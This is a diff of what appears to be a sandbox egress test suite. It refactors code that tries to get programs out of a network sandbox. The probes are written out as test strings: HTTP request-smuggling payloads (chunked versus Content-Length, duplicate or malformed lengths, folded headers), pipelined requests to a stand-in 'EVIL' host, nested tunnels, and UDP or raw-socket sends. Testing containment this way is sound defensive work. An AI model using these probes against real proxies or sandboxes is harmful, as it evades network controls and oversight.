@@ -9,27 +9,28 @@ from raptorflow.sandbox.attacks.model import Attack, Trial, outcomes
 from raptorflow.sandbox.attacks.outward import HONEST_TLS, IMPORTS, Outward, world_of
 from raptorflow.sandbox.attacks.program import said
 from raptorflow.sandbox.attacks.stage import Stage
-from raptorflow.sandbox.attacks.steps import Step, Steps
+from raptorflow.sandbox.attacks.steps import Step
 from raptorflow.sandbox.attacks.world import GOOD, OWN_ADDRESS, TENANT, Hit, World, plain
 from raptorflow.skills.capabilities import Capabilities
 
+KNOCK_SECONDS = 0.025
 TUNNEL = "tunnel(f'{GOOD}:{TLS}')"
 REDIRECTED = """
-answer = ask(f'GET http://{GOOD}:{PORT}/ HTTP/1.1\\r\\nHost: {GOOD}:{PORT}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
-place = [line for line in answer.decode().split('\\r\\n') if line.startswith('Location: ')][0][10:]
+answer = ask((head(GOOD, PORT, 'Connection: close\\r\\n') + '\\r\\n').encode()).decode()
+place = [line for line in answer.split('\\r\\n') if line.startswith('Location: ')][0][10:]
 get(place)
 """
 # A second request, to another host, in what looks to the first reader like the body of the first.
 SMUGGLED = """
-inner = f'GET http://{{EVIL}}:{{EVIL_PORT}}/ HTTP/1.1\\r\\nHost: {{EVIL}}:{{EVIL_PORT}}\\r\\n\\r\\n'
-head = f'POST http://{{GOOD}}:{{PORT}}/ HTTP/1.1\\r\\nHost: {{GOOD}}:{{PORT}}\\r\\n{headers}\\r\\n'
-answer = ask(head.encode() + {body})
+inner = head(EVIL, EVIL_PORT) + '\\r\\n'
+outer = head(GOOD, PORT, {headers}, method='POST') + '\\r\\n'
+answer = ask((outer + {before}inner).encode())
 if answer.count(b'HTTP/1.1 200') < 2:
-    raise Refused(answer[:40].decode('latin-1'))
+    raise Refused(answer.split(b'\\r\\n')[0].decode('latin-1'))
 """
 SECOND = """
-first = f'GET http://{GOOD}:{PORT}/ HTTP/1.1\\r\\nHost: {GOOD}:{PORT}\\r\\n\\r\\n'
-second = f'GET http://{EVIL}:{EVIL_PORT}/ HTTP/1.1\\r\\nHost: {EVIL}:{EVIL_PORT}\\r\\nConnection: close\\r\\n\\r\\n'
+first = head(GOOD, PORT) + '\\r\\n'
+second = head(EVIL, EVIL_PORT, 'Connection: close\\r\\n') + '\\r\\n'
 answer = ask((first + second).encode())
 if answer.count(b'HTTP/1.1 200') < 2:
     raise Refused(answer[-60:].decode('latin-1'))
@@ -54,7 +55,11 @@ def _redirect_good(world: World) -> None:
     location = f"Location: http://{OWN_ADDRESS}:{world.own.port}/\r\nConnection: close\r\n"
 
     def answer(hit: Hit) -> bytes:
-        return plain(b"", "302 Found", location) if f"host: {GOOD}:".encode() in hit.head.lower() else plain(b"x")
+        return (
+            plain(b"", "302 Found", location)
+            if f"host: {GOOD}:".encode() in hit.head.lower()
+            else plain(b"x")
+        )
 
     world.good.answer = answer
 
@@ -125,7 +130,7 @@ async def inbound(stage: Stage) -> Trial:
                 writer.close()
                 return True
             except OSError:
-                await asyncio.sleep(0.025)
+                await asyncio.sleep(KNOCK_SECONDS)
         return False
 
     text = stage.text({"listen": listen}, facts, apart=False, outside=False)
@@ -134,9 +139,10 @@ async def inbound(stage: Stage) -> Trial:
     _, control = await asyncio.gather(stage.outside(text), knock())
     answer = said(inside.stdout).get("listen")
     shut = not reached and answer is not None and answer.saw != "through"
+    reached_words = "it was reached" if reached else "nobody reached it"
     return Trial(
         outcomes(("absent" if answer.saw == "absent" else "refused") if shut and answer else "through"),
-        f"inside: {answer.words if answer else inside.status}; from this machine it was {'' if reached else 'not '}reached",
+        f"inside: {answer.words if answer else inside.status}; from this machine {reached_words}",
         control,
         "the same program outside is reached",
     )
@@ -209,7 +215,11 @@ async def crashed(stage: Stage) -> Trial:
         return plain(b"ok", headers="Connection: close\r\n")
 
     world.good.answer = fail
-    codes = {"first": "get(f'http://{GOOD}:{PORT}/')", "second": "get(f'http://{GOOD}:{PORT}/')", "TLS": HONEST_TLS}
+    codes = {
+        "first": "get(f'http://{GOOD}:{PORT}/')",
+        "second": "get(f'http://{GOOD}:{PORT}/')",
+        "TLS": HONEST_TLS,
+    }
     codes = {name: IMPORTS + code for name, code in codes.items()}
     text = stage.text(codes, world.facts, apart=True, outside=False)
     try:
@@ -257,22 +267,22 @@ DETOURS = (
         Outward(
             {
                 "origin form": Step(
-                    "checked(ask(f'GET / HTTP/1.1\\r\\nHost: {EVIL}:{EVIL_PORT}\\r\\nConnection: close\\r\\n\\r\\n'.encode()))"
+                    "more = 'Connection: close\\r\\n\\r\\n'\n"
+                    "checked(ask(head(EVIL, EVIL_PORT, more, origin=True).encode()))"
                 ),
-                "length and chunks": SMUGGLED.format(
-                    headers="Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n",
-                    body="b'0\\r\\n\\r\\n' + inner.encode()",
-                ),
-                "two lengths": SMUGGLED.format(
-                    headers="Content-Length: 0\\r\\nContent-Length: {len(inner)}\\r\\n", body="inner.encode()"
-                ),
-                "a bad length": SMUGGLED.format(headers="Content-Length: +0\\r\\n", body="inner.encode()"),
-                "a folded header": SMUGGLED.format(
-                    headers="X: y\\r\\n Content-Length: 0\\r\\n", body="inner.encode()"
-                ),
-                "space before the colon": SMUGGLED.format(
-                    headers="Transfer-Encoding : chunked\\r\\n", body="inner.encode()"
-                ),
+                **{
+                    name: SMUGGLED.format(headers=headers, before=before)
+                    for name, (headers, before) in {
+                        "length and chunks": (
+                            "'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n'",
+                            "'0\\r\\n\\r\\n' + ",
+                        ),
+                        "two lengths": ("f'Content-Length: 0\\r\\nContent-Length: {len(inner)}\\r\\n'", ""),
+                        "a bad length": ("'Content-Length: +0\\r\\n'", ""),
+                        "a folded header": ("'X: y\\r\\n Content-Length: 0\\r\\n'", ""),
+                        "space before the colon": ("'Transfer-Encoding : chunked\\r\\n'", ""),
+                    }.items()
+                },
                 "pipelined": Step(SECOND),
                 "another scheme": "get(f'ftp://{EVIL}:{EVIL_PORT}/')",
                 "a tunnel in a tunnel": Step(
@@ -340,7 +350,9 @@ DETOURS = (
                 "a public name server": Step(
                     "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.53', 53))"
                 ),
-                "QUIC": Step("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 443))"),
+                "QUIC": Step(
+                    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 443))"
+                ),
                 "ping": Step("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)"),
                 "raw": Step("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
                 "names over TLS": Step("tunnel('dns.example:853')", twin=TUNNEL),
